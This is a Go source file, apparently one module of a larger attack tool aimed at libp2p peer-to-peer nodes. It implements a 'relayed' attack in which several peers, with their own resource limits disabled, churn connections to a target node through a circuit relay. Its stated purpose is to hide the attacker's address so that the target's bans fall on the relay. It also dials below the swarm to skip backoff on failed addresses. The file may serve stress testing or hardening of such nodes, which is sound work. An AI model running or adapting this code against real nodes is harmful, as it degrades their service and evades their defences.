package attack

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/p2p/net/swarm"
	"github.com/multiformats/go-multiaddr"
)

// circuitPeers is how many peers attack through the relay at a time. Each has
// one circuit at once; a relay allows 16.
const circuitPeers = 4

func relayed() Attack {
	return Attack{
		Name: "relayed",
		Doc: "churn through a circuit relay, by four peers that stay connected to it. The node sees the " +
			"relay's address and never the attacker's: go-libp2p prints connection_status=established with " +
			"an address in /p2p-circuit for one in a hundred, and who bans what it begins with bans the relay.",
		Run: runRelayed,
	}
}

func runRelayed(ctx context.Context, p Params, each func(Attempt)) error {
	if p.Relay == nil || len(p.Targets) == 0 {
		return errors.New("want a relay and a target")
	}
	victim, err := parseTarget(p.Targets[0])
	if err != nil {
		return err
	}
	relay, err := parseTarget(p.Relay)
	if err != nil {
		return fmt.Errorf("the relay: %w", err)
	}
	if relay.over != overTCP && relay.over != overQUIC {
		return fmt.Errorf("the relay %s is not reached over TCP or QUIC", p.Relay)
	}
	circuit := p.Relay.Encapsulate(multiaddr.StringCast("/p2p-circuit"))
	// What is listed as the remote end is where the packets go: the relay.
	t := target{addr: relay.addr, peer: victim.peer, multi: circuit, over: relay.over}
	for _, s := range p.Sources {
		if s.Is4() == relay.addr.Addr().Is4() {
			t.source = s
			break
		}
	}
	peers := make(chan host.Host, circuitPeers) // each is here or in one attempt
	for range circuitPeers {
		// Its own limits would hold an attacker back sooner than the node's.
		h, err := newPeer(t.source, libp2p.EnableRelay(), libp2p.ResourceManager(&network.NullResourceManager{}))
		if err != nil {
			return err
		}
		defer h.Close()
		peers <- h
	}
	return pace(ctx, p, []target{t}, each, func(ctx context.Context, t target, _ int, a *Attempt) error {
		h := <-peers
		defer func() { peers <- h }()
		a.At = time.Now()
		return circuitOnce(ctx, h, t, a)
	})
}

// circuitOnce dials below the swarm, which would hold back further dials of an
// address that has failed.
func circuitOnce(ctx context.Context, h host.Host, t target, a *Attempt) error {
	dialer, ok := h.Network().(*swarm.Swarm)
	if !ok {
		return fmt.Errorf("the host's network is a %T", h.Network())
	}
	circuits := dialer.TransportForDialing(t.multi)
	if circuits == nil {
		return fmt.Errorf("no transport for %s", t.multi)
	}
	ctx, cancel := context.WithTimeout(ctx, serveTimeout)
	defer cancel()
	conn, err := circuits.Dial(ctx, t.multi, t.peer)
	a.Local = relayEnd(h, t.multi)
	if err != nil {
		return orDeadline(ctx, err)
	}
	defer conn.Close()
	return firstStream(ctx, conn)
}

// relayEnd gives our end of the connection to the relay, or "".
func relayEnd(h host.Host, circuit multiaddr.Multiaddr) string {
	relay, _ := multiaddr.SplitFunc(circuit, func(c multiaddr.Component) bool { return c.Protocol().Code == multiaddr.P_CIRCUIT })
	id, err := peer.IDFromP2PAddr(relay)
	if err != nil {
		return ""
	}
	for _, c := range h.Network().ConnsToPeer(id) {
		return localEnd(c)
	}
	return ""
}
